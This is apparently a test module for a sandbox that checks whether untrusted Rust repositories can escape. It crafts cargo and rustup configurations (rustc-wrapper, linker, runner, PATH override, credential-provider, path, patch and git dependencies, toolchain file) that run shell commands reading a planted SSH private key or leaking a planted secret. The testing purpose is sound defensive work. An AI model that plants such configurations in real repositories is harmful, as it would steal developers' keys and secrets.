//! Attacks by what a repository tells cargo and rustup: no line of Rust has to be compiled.

use std::{fs, process::Command};

use super::{
    Fought,
    arena::{Arena, DEADLINE, ended},
    reads::stolen,
    ways::triple,
};
/// Plants the user's key, and gives the shell commands that carry it out.
fn key_thief(arena: &Arena) -> String {
    let key = arena.path("home/.ssh/id_ed25519");
    arena.plant(&key);
    format!("cat {key:?} >>\"$loot/key\"; cat {key:?} >&2")
}

pub fn rustc_wrapper(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    arena.cargo_config("[build]\nrustc-wrapper = \"tool/program\"\n", &thief, "exec \"$@\"");
    stolen(arena)
}

pub fn rustc(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    arena.cargo_config("[build]\nrustc = \"tool/program\"\n", &thief, "exec rustc \"$@\"");
    stolen(arena)
}

pub fn linker(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    let config = format!("[target.{}]\nlinker = \"tool/program\"\n", triple());
    arena.cargo_config(&config, &thief, "exec cc \"$@\"");
    stolen(arena)
}

/// Cargo runs every bench executable through this program.
pub fn runner(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    let config = format!("[target.{}]\nrunner = \"tool/program\"\n", triple());
    arena.cargo_config(&config, &thief, "exec \"$@\"");
    stolen(arena)
}

/// The compiler finds its linker by `PATH`, and cargo sets what the configuration says.
pub fn path_variable(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    let config = "[env]\nPATH = { value = \"tool\", relative = true, force = true }\n";
    let then = "PATH=/usr/local/bin:/usr/bin:/bin exec cc \"$@\"";
    let absolute = thief.replace("cat ", "/bin/cat ");
    arena.cargo_config(config, &absolute, then);
    let tool = arena.repository.dir().join("tool");
    fs::rename(tool.join("program"), tool.join("cc")).unwrap();
    arena.repository.commit("Name it");
    stolen(arena)
}

/// Cargo asks this program for a password as soon as an index wants one.
pub fn credential_provider(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    let index = index();
    let config = format!(
        "[registries.private]\nindex = {index:?}\ncredential-provider = [\"tool/program\"]\n"
    );
    arena.cargo_config(&config, &thief, "exit 1");
    let manifest = "\n[dependencies]\nleft-pad = { version = \"1\", registry = \"private\" }\n";
    let text = fs::read_to_string(arena.repository.dir().join("Cargo.toml")).unwrap();
    let lock = format!(
        "version = 4\n\n[[package]]\nname = \"left-pad\"\nversion = \"1.0.0\"\nsource = {index:?}\n\
         checksum = \"{}\"\n\n[[package]]\nname = \"quick\"\nversion = \"0.1.0\"\n\
         dependencies = [\n \"left-pad\",\n]\n",
        "5f".repeat(32)
    );
    arena.repository.write("Cargo.toml", &(text + manifest)).write("Cargo.lock", &lock);
    arena.repository.commit("Take a dependency");
    let ended = ended(arena.t5_online().spawn(), DEADLINE);
    Fought { won: arena.stolen(&ended), ended }
}

/// The address of a registry on the loopback that wants a password for everything.
fn index() -> String {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        use std::io::{BufRead as _, Write as _};
        while let Ok((mut stream, _)) = listener.accept() {
            let asked = std::io::BufReader::new(stream.try_clone().unwrap());
            let first = asked.lines().map_while(Result::ok).take_while(|line| !line.is_empty());
            let first = first.collect::<Vec<_>>().first().cloned().unwrap_or_default();
            let body = format!("{{\"dl\":\"http://{address}/dl\",\"auth-required\":true}}");
            let status = if first.contains("config.json") { "200 OK" } else { "401 Unauthorized" };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    format!("sparse+http://{address}/index/")
}

/// A crate outside of the repository that the change would like to have.
fn outside(arena: &Arena) -> std::path::PathBuf {
    let folder = arena.path("their project");
    arena.plant(&folder.join("src/secret.txt"));
    let manifest = "[package]\nname = \"theirs\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
    fs::write(folder.join("Cargo.toml"), manifest).unwrap();
    let text = "pub const SECRET: &str = include_str!(\"secret.txt\");\n";
    fs::write(folder.join("src/lib.rs"), text).unwrap();
    folder
}

/// A bench that names a benchmark after what it finds in `theirs`.
fn with_theirs(arena: &Arena, manifest: &str, source: &str) {
    arena.honest();
    let text = fs::read_to_string(arena.repository.dir().join("Cargo.toml")).unwrap();
    let lock = format!(
        "version = 4\n\n[[package]]\nname = \"quick\"\nversion = \"0.1.0\"\n\
         dependencies = [\n \"theirs\",\n]\n\n[[package]]\nname = \"theirs\"\n\
         version = \"0.1.0\"\n{source}"
    );
    let bench = "fn main() {\n    println!(\"{}: benchmark\", theirs::SECRET.trim());\n}\n";
    arena
        .repository
        .write("Cargo.toml", &(text + manifest))
        .write("Cargo.lock", &lock)
        .write("benches/speed.rs", bench);
    arena.repository.commit("Take a dependency");
}

pub fn path_dependency(arena: &Arena) -> Fought {
    let folder = outside(arena);
    with_theirs(arena, &format!("\n[dependencies]\ntheirs = {{ path = {folder:?} }}\n"), "");
    stolen(arena)
}

pub fn patch(arena: &Arena) -> Fought {
    let folder = outside(arena);
    let manifest = format!(
        "\n[dependencies]\ntheirs = \"0.1\"\n\n[patch.crates-io]\ntheirs = {{ path = {folder:?} }}\n"
    );
    with_theirs(arena, &manifest, "");
    stolen(arena)
}

/// Another repository of this host, which cargo would clone as any other.
pub fn git_dependency(arena: &Arena) -> Fought {
    let folder = outside(arena);
    let git = |args: &[&str]| {
        let mut command = Command::new("git");
        command.current_dir(&folder).args([
            "-c",
            "user.name=Bea",
            "-c",
            "user.email=b@example.org",
        ]);
        let output = command.args(args).output().unwrap();
        assert!(output.status.success(), "git {args:?}");
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    };
    git(&["init", "--quiet"]);
    git(&["add", "."]);
    git(&["commit", "--quiet", "-m", "Begin"]);
    let (commit, url) = (git(&["rev-parse", "HEAD"]), format!("file://{}", folder.display()));
    let url = url.replace(' ', "%20");
    let manifest = format!("\n[dependencies]\ntheirs = {{ git = {url:?} }}\n");
    with_theirs(arena, &manifest, &format!("source = \"git+{url}#{commit}\"\n"));
    let ended = ended(arena.t5_online().spawn(), DEADLINE);
    Fought { won: arena.stolen(&ended), ended }
}

/// Rustup runs the `cargo` that a toolchain file names by its path.
pub fn toolchain_file(arena: &Arena) -> Fought {
    let thief = key_thief(arena);
    arena.honest();
    let text = format!("#!/bin/sh\nloot={:?}\n{thief}\nexit 1\n", arena.path("loot"));
    arena.script("tool/bin/cargo", &text);
    arena.script("tool/bin/rustc", &text);
    let tool = arena.repository.dir().join("tool");
    let toolchain = format!("[toolchain]\npath = {tool:?}\n");
    arena.repository.write("tool/lib/empty", "").write("rust-toolchain.toml", &toolchain);
    arena.repository.commit("Choose a toolchain");
    stolen(arena)
}
